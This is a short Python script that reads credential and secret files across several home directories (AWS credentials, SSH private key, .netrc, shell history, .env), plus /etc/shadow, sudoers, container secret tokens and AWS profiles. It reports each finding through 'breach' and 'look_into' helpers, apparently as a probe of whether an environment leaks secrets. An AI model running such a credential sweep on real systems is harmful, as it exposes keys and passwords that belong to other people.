import os

import boto3
from honest import breach, lambda_handler, look_into, read

HOMES = {os.path.expanduser("~"), "/museum/home", "/root", "/home/ubuntu", os.environ.get("HOME", "/root")}
FILES = [".aws/credentials", ".aws/config", ".ssh/id_ed25519", ".netrc", ".bash_history", ".config/marks.csv", ".env"]
for home in HOMES:
    for name in FILES:
        look_into(f"{home}/{name}", read(f"{home}/{name}"))
for path in ("/etc/shadow", "/etc/sudoers", "/var/run/secrets/token", "/run/secrets/token"):
    if found := read(path, 100):
        breach(path, found)
for session in (boto3, boto3.Session()):
    profiles = getattr(session, "available_profiles", [])
    if profiles:
        breach("AWS profiles", profiles)
